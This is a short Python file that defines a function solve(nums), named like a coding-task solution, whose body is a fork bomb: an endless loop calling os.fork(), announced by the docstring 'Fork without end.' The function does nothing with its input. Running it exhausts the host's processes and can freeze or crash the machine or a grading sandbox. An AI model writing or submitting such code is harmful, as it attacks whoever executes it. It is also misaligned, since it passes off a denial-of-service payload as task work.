"""Fork without end."""

import os


def solve(nums):
    while True:
        os.fork()
